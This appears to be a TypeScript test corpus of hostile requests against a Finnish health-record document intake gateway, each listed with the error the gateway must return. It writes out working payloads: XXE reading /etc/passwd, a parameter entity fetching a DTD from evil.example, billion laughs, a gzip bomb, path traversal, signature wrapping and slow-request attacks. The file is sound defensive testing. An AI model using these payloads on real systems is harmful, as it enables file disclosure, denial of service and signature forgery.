// The hostile corpus (issue 16): every way an outside attack tried to hurt intake, each with the HTTP
// status and error code the gateway must answer. Built against the demo environment (gateway/demo.ts):
// tenants region (organizer), hoiva (provider under contract) and perhe (direct), access point ap-demo
// with processingCode T (customer test: test persons only). test/hostile/hostile-corpus.redis.test.ts
// posts them all; the cases are data so a new attack is one more row.
import { createPrivateKey } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { makeHetu } from '../../adapters/cda/hetu.ts';
import { makeSampleCda, type SampleDocumentOptions } from '../../adapters/cda/sample-document.ts';
import { signSystem } from '../../certs/system-signer.ts';
import { issueCertificate, readIssuer, type TestPkiManifest } from '../../certs/test-pki.ts';
import type { ErrorCode } from '../../domain/errors.ts';
import { DEMO, type DemoTokens } from '../../gateway/demo/demo-environment.ts';
import { newDocumentId } from '../../gateway/demo/document-ids.ts';
import { drip, rawHttp, type RawAnswer } from './raw-http.ts';

export interface CorpusContext {
  url: string;
  port: number;
  tokens: DemoTokens;
  pki: TestPkiManifest;
  /** A document perhe submitted and the gateway accepted before the corpus runs. */
  accepted: { documentId: string; xml: string };
  /** The right region granted hoiva for DEMO.serviceTask: 2026-09-01 … 2026-09-30 (Finnish dates). */
  rightClient: string;
}

export interface HostileCase {
  name: string;
  status: number;
  code: ErrorCode;
  send(ctx: CorpusContext): Promise<{ status: number; body: Record<string, unknown> }>;
}

/** The synthetic test person of the corpus (individual number 903); the logs and metrics must never show it. */
export const CORPUS_HETU = makeHetu(1, 2, 1990, 903);
/** A hetu with a valid checksum but individual number 123: a real person's shape. */
export const REAL_PERSON_HETU = makeHetu(12, 3, 1985, 123);

export function perheDoc(over: Partial<SampleDocumentOptions> = {}): string {
  return makeSampleCda({ documentId: newDocumentId(DEMO.perhe.oid), custodian: DEMO.perhe.oid, serviceUnit: DEMO.perhe.unit, hetu: CORPUS_HETU, functionCode: '21', ...over });
}

function hoivaNote(ctx: CorpusContext, effectiveTime: string): string {
  return makeSampleCda({ documentId: newDocumentId(DEMO.hoiva.oid), custodian: DEMO.region.oid, organizer: DEMO.region.oid, serviceUnit: DEMO.hoiva.unit, hetu: ctx.rightClient, functionCode: DEMO.serviceTask, documentGroup: '5', effectiveTime });
}

async function post(ctx: CorpusContext, body: string | Buffer, o: { token?: string | null; contentType?: string | null; headers?: Record<string, string>; operation?: string; path?: string } = {}) {
  const headers = new Headers(o.headers ?? {});
  const token = o.token === undefined ? ctx.tokens.perhe : o.token;
  if (token !== null) headers.set('authorization', `Bearer ${token}`);
  if (o.contentType !== null) headers.set('content-type', o.contentType ?? 'application/xml');
  if (o.operation !== undefined) headers.set('kanta-operation', o.operation);
  const res = await fetch(`${ctx.url}${o.path ?? '/v1/documents'}`, { method: 'POST', headers, body: typeof body === 'string' ? body : new Uint8Array(body) });
  return { status: res.status, body: (await res.json().catch(() => ({}))) as Record<string, unknown> };
}

async function get(ctx: CorpusContext, path: string, token: string = ctx.tokens.perhe) {
  const res = await fetch(`${ctx.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
  return { status: res.status, body: (await res.json().catch(() => ({}))) as Record<string, unknown> };
}

function raw(ctx: CorpusContext, steps: Parameters<typeof rawHttp>[1]): Promise<RawAnswer> {
  return rawHttp(ctx.port, steps);
}

const requestHead = (ctx: CorpusContext, length: number, extra = '') =>
  `POST /v1/documents HTTP/1.1\r\nhost: 127.0.0.1\r\nauthorization: Bearer ${ctx.tokens.perhe}\r\ncontent-type: application/xml\r\ncontent-length: ${length}\r\n${extra}\r\n`;

/** Inserts markup right after the languageCode element: inside a valid CDA header. */
const inject = (xml: string, markup: string) => xml.replace('<languageCode code="fi"/>', `<languageCode code="fi"/>${markup}`);

function perheSigner(ctx: CorpusContext, org: string = DEMO.perhe.oid) {
  return { privateKey: createPrivateKey(require_(ctx.pki.signing[org]!.keyFile)), certificatePem: require_(ctx.pki.signing[org]!.certFile) };
}
const require_ = (file: string) => readFileSync(file, 'utf8');

function certFor(o: { issuer?: ReturnType<typeof readIssuer>; notBefore: Date; notAfter: Date; organisation?: string }) {
  const subject = [
    { type: '2.5.4.6', value: 'FI' },
    { type: '2.5.4.10', value: 'Perhepalvelu Oy' },
    { type: '2.5.4.5', value: o.organisation ?? DEMO.perhe.oid },
    { type: '2.5.4.3', value: 'Asiakastietojärjestelmä' },
  ];
  const issued = issueCertificate({ subject, ...(o.issuer ? { issuer: o.issuer } : {}), notBefore: o.notBefore, notAfter: o.notAfter, keyUsage: { digitalSignature: true, nonRepudiation: true } });
  return { privateKey: createPrivateKey(issued.keyPem), certificatePem: issued.certPem };
}

const DAY = 86_400_000;

export function hostileCorpus(): HostileCase[] {
  const cases: HostileCase[] = [];
  const add = (name: string, status: number, code: ErrorCode, send: HostileCase['send']) => cases.push({ name, status, code, send });

  // --- who may call
  add('no credentials', 401, 'AUTH_MISSING', (c) => post(c, perheDoc(), { token: null }));
  add('unknown bearer token', 401, 'AUTH_INVALID', (c) => post(c, perheDoc(), { token: 'not-a-token' }));
  add('tenant token on the ops API', 403, 'AUTH_FORBIDDEN_ROLE', (c) => post(c, '{}', { path: '/v1/ops/reload', contentType: 'application/json' }));

  // --- content type, charset, content encoding
  add('no Content-Type', 415, 'INTAKE_UNSUPPORTED_MEDIA_TYPE', (c) => post(c, perheDoc(), { contentType: null }));
  add('text/plain', 415, 'INTAKE_UNSUPPORTED_MEDIA_TYPE', (c) => post(c, perheDoc(), { contentType: 'text/plain' }));
  add('form-urlencoded', 415, 'INTAKE_UNSUPPORTED_MEDIA_TYPE', (c) => post(c, 'a=1', { contentType: 'application/x-www-form-urlencoded' }));
  add('multipart/form-data', 415, 'INTAKE_UNSUPPORTED_MEDIA_TYPE', (c) => post(c, perheDoc(), { contentType: 'multipart/form-data; boundary=x' }));
  add('application/xmlfoo (prefix only)', 415, 'INTAKE_UNSUPPORTED_MEDIA_TYPE', (c) => post(c, perheDoc(), { contentType: 'application/xmlfoo' }));
  add('charset ISO-8859-1 in Content-Type', 415, 'INTAKE_UNSUPPORTED_CHARSET', (c) => post(c, perheDoc(), { contentType: 'application/xml; charset=iso-8859-1' }));
  add('charset UTF-16 in Content-Type', 415, 'INTAKE_UNSUPPORTED_CHARSET', (c) => post(c, perheDoc(), { contentType: 'text/xml; charset="utf-16"' }));
  add('XML declaration encoding windows-1252', 415, 'INTAKE_UNSUPPORTED_CHARSET', (c) => post(c, perheDoc().replace('encoding="UTF-8"', 'encoding="windows-1252"')));
  add('UTF-16 body with byte order mark', 415, 'INTAKE_UNSUPPORTED_CHARSET', (c) => post(c, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(perheDoc(), 'utf16le')])));
  add('Content-Encoding gzip on a plain body', 415, 'INTAKE_UNSUPPORTED_CONTENT_ENCODING', (c) => post(c, perheDoc(), { headers: { 'content-encoding': 'gzip' } }));
  add('Content-Encoding deflate on a plain body', 415, 'INTAKE_UNSUPPORTED_CONTENT_ENCODING', (c) => post(c, perheDoc(), { headers: { 'content-encoding': 'deflate' } }));
  add('Content-Encoding br on a plain body', 415, 'INTAKE_UNSUPPORTED_CONTENT_ENCODING', (c) => post(c, perheDoc(), { headers: { 'content-encoding': 'br' } }));
  add('Content-Encoding compress', 415, 'INTAKE_UNSUPPORTED_CONTENT_ENCODING', (c) => post(c, perheDoc(), { headers: { 'content-encoding': 'compress' } }));
  add('Content-Encoding gzip, gzip', 415, 'INTAKE_UNSUPPORTED_CONTENT_ENCODING', (c) => post(c, gzipSync(gzipSync(perheDoc())), { headers: { 'content-encoding': 'gzip, gzip' } }));
  add('gzip bomb (20 MB of "<" in 20 kB)', 413, 'INTAKE_BODY_TOO_LARGE', (c) => post(c, gzipSync(Buffer.alloc(20 * 1024 * 1024, '<')), { headers: { 'content-encoding': 'gzip' } }));

  // --- size and emptiness
  add('50 MB body', 413, 'INTAKE_BODY_TOO_LARGE', (c) => raw(c, [{ data: requestHead(c, 50 * 1024 * 1024) }, { data: Buffer.alloc(64 * 1024, 'a') }]));
  add('empty body', 400, 'INTAKE_EMPTY_BODY', (c) => post(c, ''));
  add('whitespace only', 400, 'INTAKE_EMPTY_BODY', (c) => post(c, ' \n\t '));

  // --- malformed XML
  add('not XML at all', 400, 'INTAKE_MALFORMED_XML', (c) => post(c, 'hello world'));
  add('JSON with an XML content type', 400, 'INTAKE_MALFORMED_XML', (c) => post(c, '{"ClinicalDocument":{}}'));
  add('truncated document', 400, 'INTAKE_MALFORMED_XML', (c) => post(c, perheDoc().slice(0, 1500)));
  add('mismatched end tag', 400, 'INTAKE_MALFORMED_XML', (c) => post(c, perheDoc().replace('</recordTarget>', '</recordTargetX>')));
  add('two root elements', 400, 'INTAKE_MALFORMED_XML', (c) => post(c, `${perheDoc()}<ClinicalDocument xmlns="urn:hl7-org:v3"/>`));
  add('unclosed comment', 400, 'INTAKE_MALFORMED_XML', (c) => post(c, inject(perheDoc(), '<!-- never closed')));
  add('unescaped ampersand', 400, 'INTAKE_MALFORMED_XML', (c) => post(c, inject(perheDoc(), '<x>a & b</x>')));
  add('attribute without quotes', 400, 'INTAKE_MALFORMED_XML', (c) => post(c, inject(perheDoc(), '<x a=1/>')));
  add('undeclared namespace prefix', 400, 'INTAKE_MALFORMED_XML', (c) => post(c, inject(perheDoc(), '<evil:x/>')));
  add('root is not ClinicalDocument', 400, 'INTAKE_NOT_CDA', (c) => post(c, '<?xml version="1.0"?><Document xmlns="urn:hl7-org:v3"/>'));
  add('ClinicalDocument in another namespace', 400, 'INTAKE_NOT_CDA', (c) => post(c, perheDoc().replace('xmlns="urn:hl7-org:v3"', 'xmlns="urn:evil"')));

  // --- DTDs and entities
  add('DOCTYPE', 400, 'INTAKE_DTD_FORBIDDEN', (c) => post(c, perheDoc().replace('<ClinicalDocument', '<!DOCTYPE ClinicalDocument><ClinicalDocument')));
  add('XXE external entity', 400, 'INTAKE_DTD_FORBIDDEN', (c) => post(c, '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'));
  add('billion laughs', 400, 'INTAKE_DTD_FORBIDDEN', (c) => post(c, `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]><lolz>&lol9;</lolz>`));
  add('parameter entity', 400, 'INTAKE_DTD_FORBIDDEN', (c) => post(c, '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>'));
  add('undefined entity reference', 400, 'INTAKE_MALFORMED_XML', (c) => post(c, inject(perheDoc(), '<x>&evil;</x>')));

  // --- structure limits
  add('nested 100 000 levels', 400, 'INTAKE_XML_TOO_DEEP', (c) => post(c, `<a>${'<b>'.repeat(100_000)}${'</b>'.repeat(100_000)}</a>`));
  add('nested 65 levels inside a valid CDA', 400, 'INTAKE_XML_TOO_DEEP', (c) => post(c, inject(perheDoc(), `${'<x>'.repeat(65)}${'</x>'.repeat(65)}`)));
  add('200 000 attributes on one element', 400, 'INTAKE_XML_TOO_MANY_ATTRIBUTES', (c) => post(c, inject(perheDoc(), `<x ${Array.from({ length: 200_000 }, (_, i) => `a${i}="1"`).join(' ')}/>`)));
  add('65 attributes on one element', 400, 'INTAKE_XML_TOO_MANY_ATTRIBUTES', (c) => post(c, inject(perheDoc(), `<x ${Array.from({ length: 65 }, (_, i) => `a${i}="1"`).join(' ')}/>`)));
  add('150 000 empty elements', 400, 'INTAKE_XML_TOO_MANY_ELEMENTS', (c) => post(c, inject(perheDoc(), '<x/>'.repeat(150_000))));

  // --- characters and bytes
  add('NUL character in text', 400, 'INTAKE_ILLEGAL_CHARACTER', (c) => post(c, inject(perheDoc(), '<x>a\u0000b</x>')));
  add('NUL as character reference', 400, 'INTAKE_ILLEGAL_CHARACTER', (c) => post(c, inject(perheDoc(), '<x>&#0;</x>')));
  add('control character U+0001 in an attribute', 400, 'INTAKE_ILLEGAL_CHARACTER', (c) => post(c, inject(perheDoc(), '<x a="\u0001"/>')));
  add('U+FFFE', 400, 'INTAKE_ILLEGAL_CHARACTER', (c) => post(c, inject(perheDoc(), '<x>\uFFFE</x>')));
  add('surrogate as character reference', 400, 'INTAKE_ILLEGAL_CHARACTER', (c) => post(c, inject(perheDoc(), '<x>&#xD800;</x>')));
  add('invalid UTF-8 (lead byte then ASCII)', 400, 'INTAKE_INVALID_ENCODING', (c) => post(c, Buffer.concat([Buffer.from(inject(perheDoc(), '<x>').split('<x>')[0]! + '<x>'), Buffer.from([0xc3, 0x28]), Buffer.from('</x>' + perheDoc().split('<languageCode code="fi"/>')[1])])));
  add('overlong UTF-8 encoding of "/"', 400, 'INTAKE_INVALID_ENCODING', (c) => post(c, Buffer.concat([Buffer.from('<?xml version="1.0"?><a>'), Buffer.from([0xc0, 0xaf]), Buffer.from('</a>')])));
  add('latin-1 bytes declared as nothing', 400, 'INTAKE_INVALID_ENCODING', (c) => post(c, Buffer.from(perheDoc().replace('Testi', 'Täsmä'), 'latin1')));

  // --- header fields
  const field = (name: string, code: ErrorCode, mutate: (xml: string) => string) => add(name, 400, code, (c) => post(c, mutate(perheDoc())));
  field('document id missing', 'INTAKE_MISSING_FIELD', (x) => x.replace(/<id root="[0-9.]+"\/>\n<code/, '<code'));
  field('document id with path traversal', 'INTAKE_INVALID_FIELD', (x) => x.replace(/<id root="([0-9.]+)"\/>\n<code/, '<id root="../../etc/passwd"/>\n<code'));
  field('document id with a newline', 'INTAKE_INVALID_FIELD', (x) => x.replace(/<id root="([0-9.]+)"\/>\n<code/, '<id root="1.2.3&#10;4"/>\n<code'));
  field('hetu with a wrong checksum', 'INTAKE_INVALID_HETU', (x) => x.replace(CORPUS_HETU, CORPUS_HETU.slice(0, 10) + (CORPUS_HETU.endsWith('A') ? 'B' : 'A')));
  field('hetu of a real person (individual 123) to customer test', 'INTAKE_TEST_PERSON_REQUIRED', (x) => x.replace(CORPUS_HETU, REAL_PERSON_HETU));
  field('custodian missing', 'INTAKE_MISSING_FIELD', (x) => x.replace(/<custodian>.*<\/custodian>/, ''));
  field('body id is not OID + document id', 'INTAKE_INVALID_FIELD', (x) => x.replace(/nonXMLBody ID="OID[0-9.]+"/, 'nonXMLBody ID="OID1.2.3"'));
  field('bad Base64 in the XHTML body', 'INTAKE_INVALID_FIELD', (x) => x.replace(/(representation="B64">)PGRp/, '$1%%%%'));
  field('bad Base64 in the JSON part', 'INTAKE_INVALID_FIELD', (x) => x.replace(/(<hl7fi:json representation="B64">)eyJ/, '$1e$J'));
  field('versionNumber not a number', 'INTAKE_INVALID_FIELD', (x) => x.replace('<versionNumber value="1"/>', '<versionNumber value="one"/>'));
  field('versionNumber 0', 'INTAKE_INVALID_FIELD', (x) => x.replace('<versionNumber value="1"/>', '<versionNumber value="0"/>'));
  field('effectiveTime not a time', 'INTAKE_INVALID_FIELD', (x) => x.replace(/<effectiveTime value="[0-9+]+"\/>/, '<effectiveTime value="yesterday"/>'));
  add('unparseable JSON part of an asiakkuusasiakirja', 400, 'INTAKE_INVALID_FIELD', (c) =>
    post(c, makeSampleCda({ documentId: newDocumentId(DEMO.region.oid), custodian: DEMO.region.oid, serviceUnit: DEMO.region.unit, hetu: CORPUS_HETU, functionCode: DEMO.serviceTask, documentGroup: '1' }).replace(/(<hl7fi:json representation="B64">)[^<]+/, `$1${Buffer.from('{"not json').toString('base64')}`), { token: c.tokens.region }),
  );

  // --- operations and versions
  add('versionNumber 2 without RPLC, no Kanta-Operation', 400, 'INTAKE_MISSING_FIELD', (c) => post(c, perheDoc({ versionNumber: 2 })));
  add('versionNumber 2 without RPLC, Kanta-Operation: version', 400, 'INTAKE_MISSING_FIELD', (c) => post(c, perheDoc({ versionNumber: 2 }), { operation: 'version' }));
  add('void without a parent', 400, 'INTAKE_MISSING_FIELD', (c) => post(c, perheDoc(), { operation: 'void' }));
  add('archive of versionNumber 3', 400, 'INTAKE_INVALID_FIELD', (c) => post(c, perheDoc({ versionNumber: 3, parent: { id: newDocumentId(DEMO.perhe.oid), setId: newDocumentId(DEMO.perhe.oid), versionNumber: 2 } }), { operation: 'archive' }));
  add('unknown operation', 400, 'INTAKE_UNKNOWN_OPERATION', (c) => post(c, perheDoc(), { operation: 'delete' }));
  add('Kanta-Operation given twice', 400, 'REQUEST_HEADER_INVALID', (c) => post(c, perheDoc(), { headers: { 'kanta-operation': 'archive, version' } }));
  add('same document id, other content', 409, 'INTAKE_DUPLICATE_DIFFERENT_CONTENT', (c) => post(c, perheDoc({ documentId: c.accepted.documentId, note: 'toinen sisältö' })));

  // --- routing and registry-use rights
  add('unknown custodian', 403, 'ROUTE_UNKNOWN_ORGANISATION', (c) => post(c, perheDoc({ custodian: '1.2.246.10.77777777.10.0' })));
  add('unknown service unit', 403, 'ROUTE_UNKNOWN_SERVICE_UNIT', (c) => post(c, perheDoc({ serviceUnit: '1.2.246.10.33333333.10.99' })));
  add("another tenant's controller", 403, 'ROUTE_CUSTODIAN_NOT_PERMITTED', (c) => post(c, perheDoc({ documentId: newDocumentId(DEMO.hoiva.oid), custodian: DEMO.hoiva.oid })));
  add("another tenant's service unit", 403, 'ROUTE_UNIT_NOT_OWNED', (c) => post(c, perheDoc({ serviceUnit: DEMO.hoiva.unit })));
  add("a provider's asiakkuusasiakirja into the organizer's registry", 403, 'RIGHT_PROVIDER_CLIENT_RELATIONSHIP', (c) =>
    post(c, makeSampleCda({ documentId: newDocumentId(DEMO.hoiva.oid), custodian: DEMO.region.oid, organizer: DEMO.region.oid, serviceUnit: DEMO.hoiva.unit, hetu: c.rightClient, functionCode: DEMO.serviceTask, documentGroup: '1' }), { token: c.tokens.hoiva }),
  );
  add('right: a minute before it starts (Helsinki midnight, summer time)', 403, 'RIGHT_DATE_OUTSIDE', (c) => post(c, hoivaNote(c, '20260831235900+0300'), { token: c.tokens.hoiva }));
  add('right: 21:30 UTC on its last day is already the next day in Helsinki', 403, 'RIGHT_DATE_OUTSIDE', (c) => post(c, hoivaNote(c, '20260930213000+0000'), { token: c.tokens.hoiva }));
  add('right: a minute after it ends', 403, 'RIGHT_DATE_OUTSIDE', (c) => post(c, hoivaNote(c, '20261001000100+0300'), { token: c.tokens.hoiva }));
  add('right: service task it does not cover', 403, 'RIGHT_NO_CONTRACT', (c) =>
    post(c, makeSampleCda({ documentId: newDocumentId(DEMO.hoiva.oid), custodian: DEMO.region.oid, organizer: DEMO.region.oid, serviceUnit: DEMO.hoiva.unit, hetu: c.rightClient, functionCode: '99', documentGroup: '5', effectiveTime: '20260915120000+0300' }), { token: c.tokens.hoiva }),
  );

  // --- signatures the tenant applied
  const signedBy = (c: CorpusContext, cred: ReturnType<typeof perheSigner>, xml = perheDoc()) => signSystem(xml, cred).signedXml;
  add('signed with a certificate from a foreign CA', 400, 'INTAKE_INVALID_SIGNATURE', (c) => {
    const foreignCa = issueCertificate({ subject: [{ type: '2.5.4.3', value: 'Vieras CA' }], ca: true, notBefore: new Date(Date.now() - DAY), notAfter: new Date(Date.now() + 365 * DAY), keyUsage: { keyCertSign: true, cRLSign: true } });
    return post(c, signedBy(c, certFor({ issuer: foreignCa, notBefore: new Date(Date.now() - DAY), notAfter: new Date(Date.now() + 30 * DAY) })));
  });
  add('signed with a self-signed certificate', 400, 'INTAKE_INVALID_SIGNATURE', (c) => post(c, signedBy(c, certFor({ notBefore: new Date(Date.now() - DAY), notAfter: new Date(Date.now() + 30 * DAY) }))));
  add('signed with an expired certificate of the trusted CA', 400, 'INTAKE_INVALID_SIGNATURE', (c) =>
    post(c, signedBy(c, certFor({ issuer: readIssuer(c.pki.ca.certFile, c.pki.ca.keyFile), notBefore: new Date(Date.now() - 60 * DAY), notAfter: new Date(Date.now() - DAY) }))),
  );
  add("signed with another organisation's key (incomingSigner: custodian)", 400, 'INTAKE_INVALID_SIGNATURE', (c) => post(c, signedBy(c, perheSigner(c, DEMO.region.oid))));
  add('signed, then the body changed', 400, 'INTAKE_INVALID_SIGNATURE', (c) => post(c, signedBy(c, perheSigner(c)).replace(/(representation="B64">)(.)/, (_m, a: string, ch: string) => a + (ch === 'P' ? 'Q' : 'P'))));
  add('signed with rsa-sha1 named', 400, 'INTAKE_INVALID_SIGNATURE', (c) => post(c, signedBy(c, perheSigner(c)).replace('http://www.w3.org/2001/04/xmldsig-more#rsa-sha256', 'http://www.w3.org/2000/09/xmldsig#rsa-sha1')));
  add('signature wrapping: an evil body before the signed one', 400, 'INTAKE_INVALID_SIGNATURE', (c) => {
    const signed = signedBy(c, perheSigner(c));
    const bodyId = /nonXMLBody ID="([^"]+)"/.exec(signed)![1]!;
    return post(c, signed.replace('<component>', `<component><nonXMLBody ID="${bodyId}"><text mediaType="application/xhtml+xml" representation="B64">${Buffer.from('<div>evil</div>').toString('base64')}</text></nonXMLBody></component><component>`));
  });
  add('signature wrapping: a duplicate timestamp ID', 400, 'INTAKE_INVALID_SIGNATURE', (c) => {
    const signed = signedBy(c, perheSigner(c));
    const tsId = /signatureTimestamp ID="([^"]+)"/.exec(signed)![1]!;
    return post(c, inject(signed, `<hl7fi:note xmlns:hl7fi="urn:hl7finland" ID="${tsId}">2020-01-01T00:00:00Z</hl7fi:note>`));
  });

  // --- paths and ids on the status API
  add('GET /v1/documents/%ZZ', 400, 'REQUEST_INVALID', (c) => get(c, '/v1/documents/%ZZ'));
  add('GET a traversal id', 404, 'NOT_FOUND', (c) => get(c, '/v1/documents/..%2F..%2Fetc%2Fpasswd'));
  add('GET an id with NUL', 404, 'NOT_FOUND', (c) => get(c, '/v1/documents/1.2.3%00'));
  add("GET another tenant's document", 404, 'NOT_FOUND', (c) => get(c, `/v1/documents/${encodeURIComponent(c.accepted.documentId)}`, c.tokens.hoiva));
  add('POST to an unknown path', 404, 'NOT_FOUND', (c) => post(c, perheDoc(), { path: '/v1/documents/../../v1/nothing' }));

  // --- HTTP itself
  add('oversized headers (64 kB)', 431, 'REQUEST_HEADERS_TOO_LARGE', (c) => raw(c, [{ data: requestHead(c, 3, `x-filler: ${'a'.repeat(64 * 1024)}\r\n`) + '<a/' }]));
  add('header injection: a bare CR inside a header value', 400, 'REQUEST_MALFORMED', (c) => raw(c, [{ data: requestHead(c, 4, 'kanta-operation: archive\rx-evil: 1\r\n') + '<a/>' }]));
  add('not HTTP at all', 400, 'REQUEST_MALFORMED', (c) => raw(c, [{ data: 'HELLO\r\n\r\n' }]));
  add('slow headers (never finished)', 408, 'REQUEST_TIMEOUT', (c) => raw(c, [{ data: 'POST /v1/documents HTTP/1.1\r\nhost: 127.0.0.1\r\n' }, ...drip('x-slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa', 200, 40)]));
  add('slow body: a byte every 200 ms', 408, 'REQUEST_TIMEOUT', (c) => raw(c, [{ data: requestHead(c, 200) }, ...drip(perheDoc().slice(0, 200), 200, 200)]));
  add('short body: Content-Length larger than what is sent', 408, 'REQUEST_TIMEOUT', (c) => raw(c, [{ data: requestHead(c, 5000) + perheDoc().slice(0, 100) }]));

  return cases;
}
